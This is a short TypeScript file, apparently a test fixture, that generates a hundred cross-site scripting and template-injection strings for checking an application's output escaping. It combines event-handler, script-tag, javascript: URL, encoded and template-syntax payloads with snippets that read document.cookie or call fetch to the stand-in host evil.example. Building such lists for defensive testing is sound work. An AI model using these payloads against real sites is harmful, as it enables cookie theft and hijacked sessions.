const contexts = [
  (code: string) => `<script>${code}</script>`,
  (code: string) => `<img src=x onerror=${code}>`,
  (code: string) => `<svg onload=${code}>`,
  (code: string) => `"><script>${code}</script>`,
  (code: string) => `' onmouseover='${code}`,
  (code: string) => `" autofocus onfocus="${code}" x="`,
  (code: string) => `<a href="javascript:${code}">bấm</a>`,
  (code: string) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code: string) => `</td></tr></table><script>${code}</script>`,
  (code: string) => `</title><script>${code}</script>`,
  (code: string) => `<math><mi xlink:href="data:x,${code}">`,
  (code: string) => `<object data="data:text/html,<script>${code}</script>">`,
  (code: string) => `<form action="javascript:${code}"><button>x`,
  (code: string) => `<style>@import'${code}'</style>`,
  (code: string) => `<b style="x:expression(${code})">`,
  (code: string) => `<%= ${code} %>`,
  (code: string) => `<%~ include("${code}") %>`,
  (code: string) => `{{constructor.constructor("${code}")()}}`,
  (code: string) => `<!--><img src onerror=${code}>-->`,
  (code: string) => `<details open ontoggle=${code}>`,
  (code: string) => `<sCrIpT/x>${code}</ScRiPt >`,
  (code: string) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code: string) => `&#60;script&#62;${code}`,
  (code: string) => `\\u003cscript\\u003e${code}`,
  (code: string) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
];
const codes = ['alert(1)', 'fetch(`//evil.example`)', 'document.cookie', '$&$1 ${7*7}'];

/** A hundred texts a person might send to have something run on an official's screen. */
export const attacks: readonly string[] = contexts.flatMap((context) => codes.map(context));
